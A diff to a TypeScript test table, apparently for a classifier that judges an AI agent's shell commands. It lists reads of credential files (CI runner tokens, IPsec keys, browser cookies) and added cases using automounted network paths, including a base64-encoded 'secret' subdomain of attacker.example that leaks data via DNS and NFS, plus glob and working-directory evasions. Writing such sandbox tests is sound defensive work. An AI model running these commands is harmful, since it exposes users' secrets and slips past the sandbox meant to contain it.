@@ -72,6 +72,17 @@ export const SECRET_PATH_CASES: Array<{ argv: string[]; safe: boolean; why: stri
   { argv: ['cat', '/etc/gitlab-runner/config.toml'], safe: false, why: "a CI runner's registration tokens" },
   { argv: ['cat', '/etc/ipsec.secrets'], safe: false, why: 'IPsec pre-shared keys' },
   { argv: ['cat', '/Users/u/Library/Cookies/Cookies.binarycookies'], safe: false, why: 'browser session cookies' },
+  // rt-classifier: automounted network roots: the system daemon reaches the host, outside any sandbox
+  { argv: ['ls', '/net/c2VjcmV0.attacker.example'], safe: false, why: "macOS's /net -hosts map: a DNS query and an NFS mount to the host" },
+  { argv: ['cat', '/net/host/export/x'], safe: false, why: 'a file on an automounted host' },
+  { argv: ['bash', '-lc', 'cd /net && ls attacker.example'], safe: false, why: 'a cd into the automount root' },
+  { argv: ['ls', '/Network/Servers/x'], safe: false, why: "macOS's /Network" },
+  { argv: ['head', '/afs/cell.example/x'], safe: false, why: 'an AFS cell' },
+  { argv: ['grep', '--file=/net/host/x', 'y'], safe: false, why: 'an option value on an automounted host' },
+  { argv: ['bash', '-lc', 'ls /n?t/host'], safe: false, why: 'the root as a glob' },
+  { argv: ['cat', '//host/share/x'], safe: false, why: 'a UNC path where the platform reads one' },
+  { argv: ['ls'], cwd: '/net/attacker.example', safe: false, why: 'run in an automounted host' },
+  { argv: ['cat', 'src/net/x.ts'], safe: true, why: 'a net directory of the workspace' },
   { argv: ['cat', 'src/token.ts'], safe: true, why: 'source named after tokens is not a token' },
   { argv: ['cat', 'docs/tokens.md'], safe: true, why: 'documentation about tokens' },
   // rt-classifier: the request's own directory, which the agent chooses (MCP workdir, Gemini dir_path)
